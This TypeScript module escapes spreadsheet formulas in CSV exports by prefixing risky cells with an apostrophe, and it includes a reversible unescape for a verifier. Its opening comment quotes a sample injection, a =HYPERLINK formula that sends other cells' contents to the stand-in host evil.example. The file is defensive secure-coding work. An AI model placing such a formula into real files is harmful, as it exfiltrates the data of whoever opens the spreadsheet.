// CSV output that a spreadsheet opens as data, never as formulas. Manager-controlled text (titles,
// cancel reasons, names, audit subjects) goes into exports; a cell such as
// =HYPERLINK("https://evil.example/?"&S3&T3,"x") would otherwise run when the file is opened and
// send other cells off-site. Every string cell that a spreadsheet would read as a formula (OWASP's
// list, full-width forms included) gets a leading apostrophe. The escape is reversible, so the CSV
// verifier (verify-export.ts) reads back exactly the values that were hashed.
import { stringify } from 'csv-stringify/sync';

/** First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula. */
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Whether a value needs the apostrophe: it starts a formula, or an apostrophe precedes one. */
function needsEscape(value: string): boolean {
  let i = 0;
  while (value[i] === "'") i++;
  return FORMULA_START.test(value.slice(i));
}

/** Makes a cell inert: a leading apostrophe before anything a spreadsheet would evaluate. */
export function escapeFormula(value: string): string {
  return needsEscape(value) ? `'${value}` : value;
}

/** Undoes escapeFormula (exactly: unescape(escape(v)) === v for every string v). */
export function unescapeFormula(value: string): string {
  return value.startsWith("'") && needsEscape(value.slice(1)) ? value.slice(1) : value;
}

export interface CsvOptions {
  columns: string[];
  /** Writes the header row and the UTF-8 byte-order mark (the first page of a stream only). */
  header: boolean;
}

/** Rows as CSV (CRLF line ends), every string cell formula-escaped. */
export function toCsv(rows: unknown[][] | Record<string, unknown>[], options: CsvOptions): string {
  return stringify(rows, {
    header: options.header,
    bom: options.header,
    columns: options.columns,
    record_delimiter: 'windows',
    cast: { string: escapeFormula },
  });
}
